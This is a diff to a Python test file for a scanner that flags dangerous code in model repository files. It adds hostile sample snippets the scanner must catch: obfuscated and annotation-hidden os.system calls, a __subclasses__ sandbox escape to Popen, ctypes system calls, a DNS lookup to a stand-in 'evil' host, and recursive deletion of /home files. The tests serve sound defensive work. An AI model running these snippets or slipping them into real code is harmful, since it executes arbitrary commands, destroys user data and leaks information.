@@ -45,6 +45,10 @@ def ids(report: Report) -> set[str]:
         "import os\n(os and os.system)('x')",
         "import os\nfor f in [os.system]:\n    f('x')",
         "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
+        "import os\ndef f(x: os.system('x')): pass",
+        "import os\ndef f(*x, y: os.system('x') = 1): pass",
+        "import os\ndef f() -> os.system('x'): pass",
+        "import os\nclass A:\n    def __class_getitem__(c, i): os.system('x')\nA[1]",
         "import os\ngetattr(os, 'sXstem'.replace('X', 'y'))('x')",
         "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
         "import os\ngetattr(os, ''.join(chr(x ^ 1) for x in [114, 120, 114, 117, 100, 108]))('x')",
@@ -244,3 +248,44 @@ SNIPPETS = st.sampled_from(
 def test_any_words_of_python_do_too(text: str) -> None:
     report = scan_bytes((text or " ").encode(), "a.py")
     assert not any(gap.reason == "internal" for gap in report.coverage.gaps)
+
+
+@pytest.mark.parametrize(
+    ("text", "plain"),
+    [
+        (
+            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('x')",
+            "class A: pass\nTABLE = {c.__name__: c for c in A.__subclasses__()}",
+        ),
+        (
+            "import ctypes\nctypes.CDLL(None).system(b'x')",
+            "import ctypes\nctypes.CDLL('libc.so.6')",
+        ),
+        (
+            "import socket\nsocket.gethostbyname('secret.evil.example')",
+            "import socket\nsocket.gethostbyname(socket.gethostname())",
+        ),
+        (
+            "import os\nfor r, _, f in os.walk('/home'):\n    for x in f: os.remove(r + x)",
+            "import os\nfor x in os.listdir('cache'): os.remove(x)",
+        ),
+        (
+            "import timeit\ntimeit.timeit('import os; os.system(\"x\")')",
+            "import timeit\ntimeit.timeit('sum(range(9))')",
+        ),
+    ],
+)
+def test_what_acts_on_import_and_its_plain_neighbour(text: str, plain: str) -> None:
+    def worst(source: str) -> Severity:
+        found = scan_bytes(source.encode(), "modeling_x.py").findings
+        return max((one.severity for one in found), default=Severity.INFO)
+
+    assert worst(text) >= Severity.HIGH
+    assert worst(plain) <= Severity.LOW
+
+
+def test_the_generation_of_a_models_own_is_read(tmp_path: Path) -> None:
+    folder = tmp_path / "custom_generate"
+    folder.mkdir()
+    (folder / "generate.py").write_text(RUN)
+    assert "SNT1370" in {found for report in scan(tmp_path) for found in ids(report)}
